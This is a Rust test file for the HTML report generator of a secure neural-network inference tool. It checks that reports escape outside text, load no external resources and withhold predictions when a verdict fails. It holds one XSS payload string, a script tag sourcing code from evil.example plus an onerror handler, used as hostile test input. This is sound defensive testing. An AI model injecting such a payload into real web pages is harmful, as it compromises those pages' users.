//! What reports say, and what they must never hold.

use std::time::Duration;

use fingerprint::{Soundness, Verdict};
use nn_poly::plan::ActivationSide;
use securedl_tests::models::TinyModel;

use super::*;
use crate::pipeline::inference::Run;
use crate::pipeline::recording::Record;
use crate::report::drawing::Drawing;
use crate::report::view::{
    BarView, Chance, FaultView, Figure, Finished, PlanView, ReceiptView, RoundView,
};

/// A text that breaks out of anything that does not escape.
const HOSTILE: &str =
    "\"'><script src=https://evil.example/x.js>alert(1)</script><img onerror=x>&\u{202e}";

fn round(number: usize, state: &'static str) -> RoundView {
    RoundView {
        number,
        computes: format!("dense {HOSTILE}"),
        state,
        n_blocks: 2,
        n_begun: 2,
        n_answered: 2,
        bytes_up: 12_000,
        bytes_down: 3_000,
        seconds: 0.25,
        sizes: "12.0 kB up, 3.00 kB down".to_owned(),
        time: "250 ms".to_owned(),
    }
}

fn predictions() -> PredictionsView {
    let bar =
        |score, permille, is_best| BarView { class: HOSTILE.to_owned(), score, permille, is_best };
    let sample = |is_right| SampleView {
        picture: Drawing::of_sample(&[2, 2, 1], &[0.0, 1.0, 0.5, 0.2], HOSTILE).unwrap(),
        label: HOSTILE.to_owned(),
        confidence: "97.3 %".to_owned(),
        truth: Some(HOSTILE.to_owned()),
        is_right: Some(is_right),
        bars: vec![bar(12, 973, true), bar(-3, 27, false)],
    };
    PredictionsView {
        classes: vec![HOSTILE.to_owned(), "other".to_owned()],
        predicted: vec![3, 1],
        confusion: vec![vec![2, 0], vec![1, 1]],
        right: Some("3 of 4 right (75.00 %)".to_owned()),
        n_out_of_calibration: 1,
        shown: vec![sample(true), sample(false)],
    }
}

/// A view in which every text that comes from outside is hostile.
pub(crate) fn hostile(tone: Tone) -> RunView {
    let text = || HOSTILE.to_owned();
    let is_bad = tone == Tone::Bad;
    RunView {
        securedl: "0",
        plan: PlanView { name: text(), digest: text(), trust: text(), activation: text() },
        place: text(),
        source: text(),
        n_samples: 4,
        room: Some(text()),
        verdict: VerdictView {
            tone,
            name: if is_bad { "ModelModified" } else { "Intact" },
            headline: if is_bad { "Caught" } else { "Intact" },
            text: text(),
            chances: vec![Chance { what: "a single sample", caught: text() }],
            advice: Some("do better"),
        },
        faults: vec![FaultView { n_outputs: 10, n_different: 3, text: text(), file: Some(text()) }],
        predictions: (!is_bad).then(predictions),
        input: Drawing::of_sample(&[2, 2, 1], &[0.0; 4], HOSTILE).unwrap(),
        ciphertext: Drawing::of_bytes(&[7; 512], HOSTILE).unwrap(),
        rounds: vec![round(1, "passed"), round(2, "rejected"), round(3, "waiting")],
        figures: vec![Figure { name: "Time", value: text() }],
        receipts: ReceiptsView {
            n_receipts: 2,
            identities: vec![text()],
            first: vec![ReceiptView {
                segment: 0,
                request: text(),
                request_hash: text(),
                reply_hash: text(),
            }],
        },
    }
}

/// The tags of a page, quotes respected; what is not text or attribute value.
fn tags(page: &str) -> Vec<String> {
    let (mut tags, mut current, mut quote) = (Vec::new(), None::<String>, false);
    for c in page.chars() {
        match (&mut current, c) {
            (None, '<') => current = Some(String::new()),
            (None, _) => {}
            (Some(_), '"') => quote = !quote,
            (Some(_), '>') if !quote => tags.extend(current.take()),
            (Some(tag), c) if !quote => tag.push(c),
            (Some(_), _) => {}
        }
    }
    assert!(current.is_none() && !quote, "every tag and every quote ends");
    tags
}

#[test]
fn nothing_from_outside_becomes_markup() {
    for tone in [Tone::Good, Tone::Bad, Tone::Doubtful] {
        let view = hostile(tone);
        for page in [report(&view), fragment(&view)] {
            let page = page.replace(STYLE, "");
            for tag in tags(&page) {
                let name = tag.split_whitespace().next().unwrap().trim_start_matches('/');
                assert!(!["script", "iframe", "object", "link", "base"].contains(&name), "{tag}");
                assert!(!tag.contains(" on") && !tag.contains("style="), "{tag}");
            }
            assert!(page.contains("&lt;script src=https://evil.example"), "it is shown as text");
            assert!(!page.contains('\u{202e}'), "and does not turn what follows around");
        }
    }
}

#[test]
fn a_report_needs_no_other_file() {
    let page = report(&hostile(Tone::Good));
    assert!(page.contains("default-src &#39;none&#39;") && page.contains(STYLE));
    assert!(!STYLE.contains("</") && !STYLE.contains("url(") && !STYLE.contains("@import"));
    for attribute in ["src=\"", "href=\"", "srcset=\"", "action=\""] {
        for (at, _) in page.match_indices(attribute) {
            let value = &page[at + attribute.len()..];
            assert!(value.starts_with("data:image/png;base64,"), "{}", &value[..40]);
        }
    }
    for (at, _) in page.match_indices("://") {
        // The hostile text alone.
        assert!(page[..at].ends_with("=https"), "{}", &page[at.saturating_sub(40)..at]);
    }
}

#[test]
fn a_verdict_cannot_be_misread_and_withholds_what_it_must() {
    let good = fragment(&hostile(Tone::Good));
    assert!(good.contains("class=\"verdict good\"") && good.contains("3 of 4 right"));
    assert!(good.contains("Predictions per class") && good.contains("What was taken for what"));
    let bad = fragment(&hostile(Tone::Bad));
    assert!(bad.contains("class=\"verdict bad\"") && bad.contains("No predictions were released"));
    assert!(bad.contains("What gave it away"));
    assert!(!bad.contains("3 of 4 right") && !bad.contains("class=\"sample\""), "no answer");
    assert!(bad.contains("failed its check") && bad.contains("not reached"));
}

#[test]
fn scores_that_the_model_contradicts_are_withheld_though_every_check_passed() {
    let plan = TinyModel::conv_pool_square().plan(ActivationSide::Server, 8);
    let run = Run {
        verdict: Verdict::Intact { soundness: Soundness::unchecked() },
        scores: None,
        n_samples: 4,
        costs: None,
        total: Duration::ZERO,
        evidence: Vec::new(),
    };
    let view = |is_contradicted| {
        let finished = Finished {
            plan: &plan,
            place: "a test".to_owned(),
            source: "digits".to_owned(),
            room: None,
            run: &run,
            record: &Record::default(),
            is_contradicted,
            is_compared: true,
            predictions: Some(predictions()),
            faults: Vec::new(),
            input: None,
        };
        RunView::new(finished).unwrap()
    };
    let contradicted = view(true);
    assert_eq!(contradicted.predictions, None);
    let page = report(&contradicted);
    for expected in ["Contradicted", "class=\"verdict bad\"", "No predictions were released"] {
        assert!(page.contains(expected), "{expected}");
    }
    for withheld in ["3 of 4 right", "class=\"sample\"", "every score equals"] {
        assert!(!page.contains(withheld), "{withheld}");
    }
    let page = report(&view(false));
    assert!(page.contains("3 of 4 right") && page.contains("every score equals"), "{page}");
}

#[test]
fn texts_are_escaped_and_sentences_begin_large() {
    let text = format!("{}", Escaped("<a b='c' d=\"e\">&\u{7}\n"));
    assert_eq!(text, "&lt;a b=&#39;c&#39; d=&quot;e&quot;&gt;&amp;\u{fffd}\n");
    assert_eq!(capitalized("every check passed"), "Every check passed.");
    assert_eq!(capitalized(""), ".");
}
